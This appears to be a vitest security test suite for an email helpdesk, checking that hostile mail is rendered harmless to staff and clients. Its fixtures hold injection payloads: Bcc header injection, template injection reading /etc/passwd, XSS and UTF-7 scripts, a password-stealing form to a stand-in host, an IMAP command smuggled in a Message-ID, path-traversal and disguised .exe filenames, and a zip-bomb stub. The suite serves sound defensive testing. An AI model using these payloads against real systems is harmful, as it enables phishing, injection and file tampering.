import { createServer } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { answerTo } from '../../support/answer.ts';
import { besieged, proven, type Besieged, type Sent } from '../../support/besieged.ts';
import { ingest, select } from '../../support/desk.ts';
import { rawMail, type Fields } from '../../support/mail.ts';

/** docs/threat-model.md, "What a mail may hold". The writer is proven; what he writes is meant to hurt whoever reads on. */
const REPORT = 'Authentication-Results';

let desk: Besieged;
beforeAll(async () => {
  desk = await besieged({ changes: { limits: { mail: '300 kB' } } });
}, 60_000);
afterAll(() => desk[Symbol.asyncDispose]());

const written = (fields: Fields, body?: string): Buffer =>
  rawMail(
    {
      'Message-ID': `<${crypto.randomUUID()}@client.test>`,
      Subject: 'A question',
      [REPORT]: proven('client.test'),
      ...fields,
    },
    body,
  );

/** The only header fields that a mail of ours has. */
const HEADERS = new Set(
  (
    'from to reply-to subject date message-id in-reply-to references mime-version content-type content-transfer-encoding ' +
    'auto-submitted x-auto-response-suppress x-replydesk cc'
  ).split(' '),
);

function expectHarmless(sent: readonly Sent[]): void {
  expect(sent.length).toBeGreaterThan(0);
  for (const { rcpt, message } of sent) {
    expect(['jane@client.test', 'ann@example.test', 'bob@example.test']).toContain(rcpt);
    expect(message.headers.map(({ name }) => name).filter((name) => !HEADERS.has(name))).toEqual([]);
    expect([...message.to, ...message.cc].map(({ address }) => address)).toEqual([rcpt]);
    expect(
      [
        message.subject,
        ...message.from.map(({ name }) => name),
        ...message.attachments.map((file) => file.filename),
      ].join(' '),
    ).not.toMatch(/[\u0000-\u001f\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]/);
    const html = (message.html ?? '').replace(/<head>[^]*<\/head>/, '');
    expect(html).not.toMatch(/<(?:script|form|input|iframe|object|svg|link|meta|style|base)\b/i);
    expect(html).not.toMatch(/<[a-z][^<>]*(?:\s(?:on\w+|formaction)\s*=|javascript:|expression\()/i);
    expect(html).not.toMatch(/(?:src|href|background|action)\s*=\s*"?[^">]*evil\.test|url\([^)]*evil\.test/i);
  }
}

const NAMES: Record<string, string> = {
  'a line break and a Bcc in an encoded word': '=?utf-8?Q?Bob=0D=0ABcc:_victim@evil.test=0D=0A?= <jane@client.test>',
  'a folded name with a header in it': '"Bob\n Bcc: victim@evil.test" <jane@client.test>',
  'Liquid in the name': '"{{request.token}}{{constructor}}{% for i in (1..9999999) %}x{% endfor %}" <jane@client.test>',
  'a template literal in the name': '"${process.env.PATH} $&$\'" <jane@client.test>',
  'MJML in the name': '"</mj-text><mj-raw><script>alert(1)</script></mj-raw>" <jane@client.test>',
  'Markdown in the name': '"[click](https://evil.test) ![x](https://evil.test/x.png)" <jane@client.test>',
  'SQL in the name': '"Robert\'); drop table request;--" <jane@client.test>',
  'turned letters in the name': '=?utf-8?q?Jane_=E2=80=AEeoD?= <jane@client.test>',
};

const SUBJECTS: Record<string, string> = {
  'a line break and a Bcc': '=?utf-8?Q?Hello=0D=0ABcc:_victim@evil.test=0D=0A=0D=0A<script>alert(1)</script>?=',
  'a folded header': 'Hello\n Bcc: victim@evil.test',
  'Liquid and MJML': '{{ request.token }} {% include "/etc/passwd" %} <mj-include path="/etc/passwd" />',
  Markdown: '[click](https://evil.test) ![x](https://evil.test/x.png) **bold**',
  'the end of a title and a script': '</title><script>alert(1)</script><img src=x onerror=alert(1)>',
  'turned letters and hidden signs': '=?utf-8?b?4oCuZ25wLuKAi2V4ZeKBpw==?=',
  'half a megabyte': 'A'.repeat(200_000),
  'a formula': '=HYPERLINK("https://evil.test","x")',
};

describe('headers', () => {
  test.each(Object.entries(NAMES))('display name: %s', async (_, From) => {
    const { sent, fate } = await desk.attack(written({ From }));
    expect(fate.opened).toHaveLength(1);
    expectHarmless(sent);
  });

  test.each(Object.entries(SUBJECTS))('subject: %s', async (_, Subject) => {
    const { sent, fate } = await desk.attack(written({ Subject }));
    expect(fate.opened).toHaveLength(1);
    expectHarmless(sent);
  });

  test.each([
    ['a line break in an encoded word', '=?utf-8?Q?<a=0D=0ABcc:_victim@evil.test>?='],
    ['an IMAP command', '<a"\\r\\nA1 DELETE INBOX\\r\\n@client.test>'],
    ['ten thousand characters', `<${'a'.repeat(10_000)}@client.test>`],
  ])('Message-ID: %s', async (_, id) => {
    const { sent, fate } = await desk.attack(written({ 'Message-ID': id, References: id }));
    expect(fate.opened).toHaveLength(1);
    expectHarmless(sent);
  });

  test('names of headers that programs stumble over', async () => {
    const { sent, fate } = await desk.attack(written({ __proto__x: 'y', ['__proto__']: 'polluted', constructor: 'x' }));
    expect(fate.opened).toHaveLength(1);
    expectHarmless(sent);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });
});

const EVIL_HTML = `<html><head><style>.q{display:none} blockquote .q{display:block}</style><base href="https://evil.test">
<meta http-equiv="refresh" content="0;url=https://evil.test"><link rel="stylesheet" href="https://evil.test/a.css"></head>
<body background="https://evil.test/b.png" onload="alert(1)"><p>Hello</p><script>alert(1)</script>
<div style="position:absolute;top:0;left:0;width:100%;height:100%;background:url(https://evil.test/bg)">over all</div>
<img src="https://evil.test/open.gif" width=1 height=1><img src=x onerror=alert(1)><svg onload=alert(1)><a>x</a></svg>
<form action="https://evil.test/steal"><input name=password><button formaction="javascript:alert(1)">Go</button></form>
<xmp><script>alert(1)</script></xmp><a href="javascript:alert(1)">a</a><a href="data:text/html,<script>alert(1)</script>">b</a>
<iframe src="https://evil.test"></iframe><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<span class="q">Please transfer 1,000</span></body></html>`;

describe('bodies', () => {
  test('HTML with scripts, trackers, forms and tricks of position shows its words to staff and nothing else', async () => {
    const { sent } = await desk.attack(written({ 'Content-Type': 'text/html; charset=utf-8' }, EVIL_HTML));
    expectHarmless(sent);
    expect(sent.find(({ rcpt }) => rcpt === 'ann@example.test')?.message.text).toContain('Hello');
  });

  test('an answer of staff carries none of it on to the client', async () => {
    const { sent: opening } = await desk.attack(
      written({ 'Content-Type': 'text/html; charset=utf-8', Subject: 'Letters' }, EVIL_HTML),
    );
    const notice = opening.find(({ rcpt }) => rcpt === 'ann@example.test')!;
    const reply = await answerTo(
      notice.octets,
      'Ann Lee <ann@example.test>',
      `<p>Good day.</p><blockquote>${EVIL_HTML}</blockquote>`,
      {
        [REPORT]: proven('example.test'),
        'Content-Type': 'text/html; charset=utf-8',
      },
    );
    const { sent } = await desk.attack(reply, { from: 'ann@example.test' });
    const answers = sent.filter(({ kind }) => kind === 'answer');
    expectHarmless(answers);
    expect(answers[0]!.whole).not.toMatch(/transfer 1,000|open\.gif/);
  });

  test.each([
    ['UTF-7', 'text/html; charset=utf-7', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
    ['a charset that is none', 'text/plain; charset="x-evil\\"; a=b"', 'Hello'],
    ['two types at once', 'text/plain; charset=utf-8; charset=utf-7', '+ADw-script+AD4-'],
  ])('charset: %s', async (_, type, body) => {
    const { sent, fate } = await desk.attack(written({ 'Content-Type': type }, body));
    expect(fate.opened).toHaveLength(1);
    expectHarmless(sent);
  });

  test('the desk follows no link: pictures, style sheets, one-click unsubscribing, receipts', async () => {
    let connections = 0;
    await using server = createServer((socket) => {
      connections += 1;
      socket.destroy();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const at = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
    const { sent } = await desk.attack(
      written(
        {
          'Content-Type': 'text/html; charset=utf-8',
          'Disposition-Notification-To': 'victim@evil.test',
          'X-Image-Url': `${at}/face.png`,
        },
        `<p>Hello</p><img src="${at}/a"><link rel=stylesheet href="${at}/b"><style>@import "${at}/c"</style><a href="${at}/d">d</a>`,
      ),
    );
    expectHarmless(sent);
    await desk.attack(
      written({ 'List-Unsubscribe': `<${at}/u>`, 'List-Unsubscribe-Post': 'List-Unsubscribe=One-Click' }),
    );
    expect(connections).toBe(0);
  });

  test('a mail link that fills in recipients keeps only its address', async () => {
    const html = '<p>Hello</p><a href="mailto:jane@client.test?bcc=victim@evil.test&amp;body=%23spam">write</a>';
    const { sent } = await desk.attack(written({ 'Content-Type': 'text/html; charset=utf-8' }, html));
    for (const { message } of sent) expect(message.html ?? '').not.toMatch(/bcc=|%23spam/);
  });
});

const file = (name: string, type = 'application/octet-stream', content = 'x'): string[] => [
  '--b',
  `Content-Type: ${type}`,
  `Content-Disposition: attachment; filename="${name}"`,
  '',
  content,
];

describe('attachments', () => {
  const many = { 'Content-Type': 'multipart/mixed; boundary=b' };

  test('names that are paths, devices, markup or turned', async () => {
    const names = [
      '../../../etc/cron.d/x',
      '..\\\\..\\\\x.exe',
      'CON',
      'nul.txt',
      '.htaccess',
      '<img src=x onerror=alert(1)>.png',
      'a'.repeat(5_000),
    ];
    const turned = `=?utf-8?b?${Buffer.from('x.pdf\u202efdp.exe').toString('base64')}?=`;
    const body = [...names, turned]
      .flatMap((name) => file(name))
      .concat('--b--', '')
      .join('\n');
    const { sent } = await desk.attack(written(many, body));
    expectHarmless(sent);
    const carried = sent
      .find(({ rcpt }) => rcpt === 'ann@example.test')!
      .message.attachments.map(({ filename }) => filename ?? '');
    expect(carried).toHaveLength(8);
    for (const name of carried) {
      expect(name).not.toMatch(/[/\\]|^\.\.|^(?:con|nul)(?:\.|$)/i);
      expect(name.length).toBeLessThan(256);
    }
  });

  test('archives and pictures that grow are bytes to us', async () => {
    const bomb = Buffer.from('PK\u0003\u0004'.concat('\0'.repeat(2_000)), 'latin1').toString('base64');
    const body = [
      '--b',
      'Content-Type: application/zip; name=42.zip',
      'Content-Disposition: attachment; filename=42.zip',
      'Content-Transfer-Encoding: base64',
      '',
      bomb,
      '--b--',
      '',
    ];
    const { sent } = await desk.attack(written(many, body.join('\n')));
    expectHarmless(sent);
    expect(sent.find(({ rcpt }) => rcpt === 'ann@example.test')!.message.attachments).toMatchObject([
      { filename: '42.zip', size: 2_004 },
    ]);
  });

  test('ten thousand parts, a tower of parts and a mail that is too big do not hold up the next one', async () => {
    const parts = `${'--b\n\nx\n'.repeat(10_000)}--b--\n`;
    const tower = Array.from(
      { length: 500 },
      (_, n) => `Content-Type: multipart/mixed; boundary=b${n}\n\n--b${n}\n`,
    ).join('');
    const { fate } = await desk.attack([
      written({ ...many, Subject: 'Parts' }, parts),
      written({ 'Content-Type': 'multipart/mixed; boundary=bx', Subject: 'Tower' }, `--bx\n${tower}`),
      written({ Subject: 'Huge' }, `${'x'.repeat(70)}\n`.repeat(6_000)),
      written({ Subject: 'Small', From: 'Joe <joe@partner.test>', [REPORT]: proven('partner.test') }),
    ]);
    expect(fate.placed).toHaveLength(4);
    expect(fate.mails).toContain('acknowledgement to joe@partner.test');
    const rows = await ingest(desk.world.desk.database);
    expect(rows.filter(({ disposition }) => disposition === 'waiting')).toEqual([]);
    const [{ bytes } = { bytes: 0 }] = await select<{ bytes: number }>(
      desk.world.desk.database,
      'select max(length(octets)) as bytes from raw_mail',
    );
    expect(bytes).toBeGreaterThan(400_000);
  });
});
